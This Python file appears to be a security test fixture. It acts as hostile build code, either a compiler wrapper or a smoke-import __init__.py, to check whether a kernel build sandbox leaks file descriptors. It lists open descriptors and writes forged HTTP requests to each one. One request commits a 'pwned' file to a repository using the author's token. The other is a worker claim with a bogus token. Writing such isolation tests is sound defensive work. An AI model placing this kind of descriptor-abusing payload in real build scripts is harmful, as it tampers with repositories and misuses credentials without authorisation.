# fd_probe.py -- hostile build code for t0190: what a kernel's build script
# (a compiler wrapper) and its __init__.py (the smoke import) do with the
# descriptors they are given. It lists /proc/self/fd ("FDS <where>: 0 1 2")
# and writes on every descriptor past 2 two pipelined requests to khub: a
# commit to the kernel's own repo with its author's token, then a worker
# call with a bogus token (a 401 a worker would take for its own). It
# writes the same bytes on its stdout and stderr, which must only ever be
# the build log. Run as a program (-wrapper python3,fdprobe.py), it then
# execs the compiler's step it was given.
# The test puts CONFIG = {"port": ..., "token": ...} above this text.
import os
import sys


def requests():
    body = ('{"key":"header","value":{"summary":"pwned by build code","description":""}}\n'
            '{"key":"file","value":{"content":"cHduZWQK","path":"pwned-by-build-code.txt",'
            '"encoding":"base64"}}\n').encode()
    host = "Host: 127.0.0.1:%d\r\n" % CONFIG["port"]
    commit = ("POST /api/kernels/acme/relu/commit/main HTTP/1.1\r\n" + host +
              "Authorization: Bearer %s\r\nContent-Type: application/x-ndjson\r\n"
              "Content-Length: %d\r\n\r\n" % (CONFIG["token"], len(body))).encode() + body
    bogus = ("POST /api/workers/claim HTTP/1.1\r\n" + host +
             "Authorization: Bearer khw_bogus\r\nContent-Length: 0\r\n\r\n").encode()
    return commit + bogus


def say(line):
    os.write(2, ("\n" + line + "\n").encode())  # at a line start whatever a compiler beside it wrote


def probe(where):
    fds = []
    for name in os.listdir("/proc/self/fd"):
        try:
            fds.append((int(name), os.readlink("/proc/self/fd/" + name)))
        except OSError:
            pass    # the listing's own descriptor, closed since
    fds.sort()
    say("FDS %s: %s" % (where, " ".join(str(fd) for fd, _ in fds)))
    say("LINKS %s: %s" % (where, " ".join("%d->%s" % (fd, target) for fd, target in fds)))
    for fd, target in fds:
        if fd <= 2:
            continue
        try:
            say("WROTE %s: fd %d (%s) %d bytes" % (where, fd, target, os.write(fd, requests())))
        except OSError as e:
            say("REFUSED %s: fd %d (%s): %s" % (where, fd, target, e.strerror))
    for fd in (1, 2):
        os.write(fd, b"\nSTDIO " + where.encode() + b": " + requests() + b"\n")


if __name__ == "__main__":
    probe("build-script")
    os.execvp(sys.argv[1], sys.argv[1:])  # cc1plus by its path, as by its name
else:
    probe("smoke-import")
